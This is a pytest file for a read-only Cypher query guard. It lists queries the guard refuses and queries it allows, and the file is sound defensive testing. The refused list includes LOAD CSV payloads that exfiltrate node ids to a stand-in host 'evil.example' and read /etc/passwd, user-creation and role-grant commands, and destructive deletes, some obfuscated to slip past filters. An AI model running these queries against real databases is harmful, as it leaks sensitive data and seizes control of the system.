"""The read-only fence's allow-list (graph_engine.cypher_guard): refused clauses, commands and
procedures in any spelling; strings, comments and names that merely contain the words are allowed."""

from __future__ import annotations

import pytest

from graph_engine.cypher_guard import check_read_query, tokenize
from graph_engine.errors import QueryError

REFUSED = [
    "LOAD CSV FROM 'http://evil.example/x.csv?leak=' + 'a' AS row RETURN row",
    "MATCH (n:Patient) WITH n LOAD CSV FROM 'http://evil.example/?q=' + n.id AS r RETURN r",
    "match (n) with n load  csv from 'http://x/' + n.id as r return r",
    "MATCH (n) WITH n LOAD/* sneaky */CSV FROM 'http://x/' AS r RETURN r",
    "MATCH (n) WITH n LoAd\n// comment\n CsV WITH HEADERS FROM 'file:///etc/passwd' AS r RETURN r",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-42'",
    "terminate transaction 'neo4j-transaction-42'",
    "SHOW SETTINGS",
    "show settings yield name, value return name, value",
    "/* hi */ SHOW TRANSACTIONS",
    "SHOW USERS",
    "SHOW DATABASES",
    "SHOW PROCEDURES",
    "SHOW SERVERS",
    "CALL dbms.listConfig()",
    "CALL DBMS.listConfig() YIELD name RETURN name",
    "CALL dbms . listConfig ( )",
    "CALL `dbms`.`listConfig`()",
    "CALL dbms.components()",
    "CALL dbms.killQuery('q')",
    "CALL db.createLabel('X')",
    "CALL db.clearQueryCaches()",
    "CALL { MATCH (n) RETURN n } IN TRANSACTIONS RETURN 1",
    "CALL { MATCH (n) RETURN n } in transactions of 10 rows",
    "MATCH (m) CALL (m) { MATCH (n) RETURN n } IN 4 CONCURRENT TRANSACTIONS RETURN 1",
    "CALL { SHOW SETTINGS } RETURN 1",
    "USE system SHOW USERS",
    "use system MATCH (n) RETURN n",
    "CALL { USE system MATCH (n) RETURN n } RETURN 1",
    "MATCH (n) RETURN n UNION SHOW SETTINGS",
    "MATCH (n) RETURN n; MATCH (m) RETURN m",
    "CREATE (n:Drug {id: 'x'})",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) SET n.x = 1",
    "EXPLAIN MATCH (n) RETURN n",
    "PROFILE MATCH (n) RETURN n",
    "CREATE USER eve SET PASSWORD 'x'",
    "ALTER USER neo4j SET PASSWORD 'x'",
    "GRANT ROLE admin TO eve",
    "STOP DATABASE neo4j",
    "START DATABASE neo4j",
    "DROP INDEX medkg_fulltext",
    "MATCH (n) WHERE EXISTS { SHOW SETTINGS } RETURN n",
    "",
    "  ;  ",
    "MATCH (n) RETURN 'unterminated",
    "MATCH (n) /* unterminated RETURN n",
]

ALLOWED = [
    "MATCH (n) RETURN count(n) AS n",
    "match (d:Drug)-[:TREATS]->(x:Disease) return d.id, x.id limit 5",
    "MATCH (n) WHERE n.name = 'LOAD CSV FROM http://x' RETURN n",
    'MATCH (n) WHERE n.name CONTAINS "SHOW SETTINGS; TERMINATE TRANSACTIONS" RETURN n',
    "MATCH (n) RETURN n // LOAD CSV FROM 'http://x' and SHOW SETTINGS in a comment",
    "MATCH (n) /* USE system; CALL dbms.listConfig() */ RETURN n",
    "MATCH (n) WHERE n.note = 'it\\'s a LOAD CSV' RETURN n",
    "MATCH (n:`SHOW`) RETURN n.`load`, n.create, n.set, n.use",
    "MATCH (n) RETURN n {.name, .id} AS m",
    "MATCH (n) RETURN {show: 1, load: 2, terminate: 3} AS m",
    "MATCH (s:Show) RETURN s",
    "WITH [1, 2] AS xs UNWIND xs AS x RETURN x",
    "OPTIONAL MATCH (n) RETURN n",
    "MATCH (n) RETURN n UNION ALL MATCH (m) RETURN m",
    "CALL db.labels() YIELD label RETURN label",
    "CALL db.index.fulltext.queryNodes('medkg_fulltext', 'aspirin') YIELD node RETURN node",
    "CALL { MATCH (n) RETURN n } RETURN count(n)",
    "MATCH (m) CALL (m) { MATCH (m)--(n) RETURN n } RETURN count(n)",
    "MATCH (n) WHERE COUNT { (n)--() } > 1 RETURN n",
    "MATCH (n) WHERE n.id IN $ids RETURN n",
    "MATCH (n) RETURN n;",
    "MATCH (n) WITH {a: 1} AS m WHERE 1 IN [1] RETURN m",
    "MATCH (n)-[r:A|B]->(m) RETURN type(r)",
]


@pytest.mark.parametrize("query", REFUSED)
def test_refused(query):
    with pytest.raises(QueryError, match="refused"):
        check_read_query(query)


@pytest.mark.parametrize("query", ALLOWED)
def test_allowed(query):
    check_read_query(query)


def test_tokenizer_keeps_strings_and_names_whole():
    toks = tokenize("MATCH (n:`a``b`) // x\nWHERE n.v = 'LOAD \\' CSV' RETURN $p")
    kinds = [(t.kind, t.text) for t in toks]
    assert ("name", "a`b") in kinds
    assert ("string", "LOAD \\' CSV") in kinds
    assert ("param", "$p") in kinds
    assert all(t.text != "x" for t in toks)  # the comment is gone


def test_message_names_the_refused_clause():
    with pytest.raises(QueryError, match="LOAD CSV"):
        check_read_query("MATCH (n) WITH n LOAD CSV FROM 'http://x' AS r RETURN r")
    with pytest.raises(QueryError, match="dbms.listConfig"):
        check_read_query("CALL dbms.listConfig()")


def test_readme_guarantees_refused_examples_are_refused():
    """README's Guarantees section lists refused queries: each of them is refused."""
    from tests.conftest import REPO

    text = (REPO / "README.md").read_text(encoding="utf-8")
    section = text.split("## Guarantees", 1)[1].split("\n## ", 1)[0]
    block = section.split("```cypher", 1)[1].split("```", 1)[0]
    queries = [l for l in block.splitlines() if l.strip()]
    assert len(queries) >= 10
    for q in queries:
        with pytest.raises(QueryError, match="refused"):
            check_read_query(q)
